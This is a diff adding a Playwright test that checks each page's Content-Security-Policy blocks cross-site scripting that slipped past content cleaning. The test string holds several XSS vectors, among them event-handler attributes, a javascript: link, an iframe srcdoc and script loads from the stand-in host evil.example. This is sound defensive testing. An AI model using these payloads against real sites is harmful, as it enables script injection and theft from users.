@@ -103,6 +103,51 @@ test('CO1 nothing that a visitor or staff writes runs in the widget', async ({ p
   await host.stop()
 })
 
+test('CO5 what slipped through the cleaning of an article or a notice would still do nothing: each page’s policy is a second wall', async ({
+  browser,
+  torv,
+}) => {
+  const slipped = `<script>__xss()</script><script src="https://evil.example/x.js"></script><img src=x onerror=__xss()>
+    <svg onload=__xss()></svg><details open ontoggle=__xss()>x</details><iframe srcdoc="<script>parent.__xss()</script>"></iframe>
+    <iframe src="https://evil.example/"></iframe><img src="https://evil.example/x.png"><object data="https://evil.example/o"></object>
+    <p id="laid" style="position:fixed">x</p><a id="go" href="javascript:__xss()">x</a>`
+  const page = await (await browser.newContext()).newPage()
+  let ran = 0
+  let asked = 0
+  let isWalled = true
+  await page.exposeFunction('__xss', () => ran++)
+  await page.route('https://evil.example/**', (route) => {
+    asked++
+    return route.fulfill({ body: '__xss()', contentType: 'text/javascript' })
+  })
+  await page.route(`${torv.url}/en/**`, async (route) => {
+    if (route.request().resourceType() !== 'document') return route.continue()
+    const response = await route.fetch()
+    const headers = response.headers()
+    if (!isWalled) delete headers['content-security-policy']
+    await route.fulfill({ response, headers, body: (await response.text()).replace('</main>', `${slipped}</main>`) })
+  })
+  const laid = () => page.locator('#laid').evaluate((element) => getComputedStyle(element).position)
+  const look = async (path: string) => {
+    await visit(page, torv.url + path)
+    await page.locator('#go').click()
+    return laid()
+  }
+
+  for (const path of ['/en/help/clean-the-air-filter', '/en/status', '/en/', '/en/help']) {
+    expect([path, await look(path)]).toEqual([path, 'static'])
+    expect([path, ran, asked]).toEqual([path, 0, 0])
+    isWalled = false
+    expect([path, await look(path)]).toEqual([path, 'fixed']) // or the above would prove nothing
+    expect(ran).toBeGreaterThan(5)
+    expect(asked).toBeGreaterThan(3)
+    isWalled = true
+    ran = 0
+    asked = 0
+  }
+  await page.context().close()
+})
+
 test('BN9 a shared cache may keep nothing personal, however the address is dressed', async ({ browser, torv }) => {
   const ada = await signedIn(browser, torv, 'ada')
   const { reference } = await ada.opens('canary-bn9')
